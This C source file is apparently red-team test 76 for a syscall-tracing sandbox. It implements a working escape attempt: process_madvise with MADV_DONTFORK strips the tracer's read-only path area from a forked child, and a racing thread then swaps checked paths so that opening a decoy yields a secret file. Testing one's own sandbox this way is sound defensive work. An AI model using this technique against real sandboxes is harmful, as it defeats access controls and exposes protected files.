/* area_dontfork.c: a forked child without the scratch area the tracer takes it to have
 * (red team 76).
 *
 * The tracer copies a checked path into its scratch area (engine/scratch.py), mapped
 * read-only in the tracee at a fixed address, and points the call at the copy.  A forked
 * child gets a copy of its parent's area -- unless the parent marked that mapping
 * MADV_DONTFORK.  madvise's guard refuses that on the area (its range is in registers);
 * process_madvise (Linux 6.15: any advice on the caller's own memory, its ranges in an iovec
 * no filter reads) does not, where a rule permits it.  The child then has nothing at the
 * area's address, maps its own writable memory there with a hint mmap (no MAP_FIXED: no
 * guard), and a thread of it writes the secret's path into every slot's path while the other
 * opens the decoy: the tracer checks the decoy, writes its copy into the child's own memory
 * and the kernel opens what the thread wrote.  The same thread also flips the program's own
 * buffer (decoy <-> secret): natively (no tracer, no area) that is what reaches the secret
 * (the control); under systrace the flip of the checked buffer changes nothing (held).
 *
 *   area_dontfork SECRET DECOY   (absolute paths of the same length)
 */
#include "attack.h"
#include <pthread.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>

#define BASE 0x100000000000UL
#define AREA (1UL << 30)
#define SLOT (256UL * 1024)
#define SLOTS 4
#define PATH1 32

static const char *secret, *decoy;
static char path[4096];
static volatile int done;

static void *flip(void *unused) {
    (void)unused;
    size_t n = strlen(secret) + 1;
    while (!done) {
        for (unsigned long s = 0; s < SLOTS; s++) {
            memset((char *)(BASE + s * SLOT), 0, PATH1);  /* (an openat2's how: no resolve flags) */
            memcpy((char *)(BASE + s * SLOT + PATH1), secret, n);
        }
        memcpy(path, secret, n);
        memcpy(path, decoy, n);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 3) usage("area_dontfork SECRET DECOY");
    secret = argv[1];
    decoy = argv[2];
    int pidfd = (int)syscall(SYS_pidfd_open, getpid(), 0);
    struct iovec area = {(void *)BASE, AREA};
    long advised = pidfd < 0 ? -1 : syscall(SYS_process_madvise, pidfd, &area, 1, MADV_DONTFORK, 0);
    int advice_errno = errno;
    pid_t child = fork();
    if (child < 0) blocked("fork: %s", ename(errno));
    if (child > 0) {
        int status;
        waitpid(child, &status, 0);
        if (!WIFEXITED(status)) printf("BLOCKED: the child ended by signal %d\n", WTERMSIG(status));
        return 0;
    }
    void *own = mmap((void *)BASE, SLOTS * SLOT, PROT_READ | PROT_WRITE | PROT_EXEC,
                     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    note("process_madvise(DONTFORK): %ld (%s); the child's own mapping at %p", advised,
         advised < 0 ? ename(advice_errno) : "ok", own);
    if (own != (void *)BASE) blocked("the area's address is not the child's to map (%p)", own);
    memcpy(path, decoy, strlen(decoy) + 1);
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    int refused = 0, other = 0;
    for (int i = 0; i < 20000; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) {
            refused++;
            continue;
        }
        if (is_secret_fd(fd)) {
            done = 1;
            escaped("open %d of the decoy gave the secret (fd -> %s)", i, fd_name(fd));
        }
        other++;
        close(fd);
    }
    done = 1;
    blocked("20000 opens: %d refused, %d not the secret", refused, other);
}
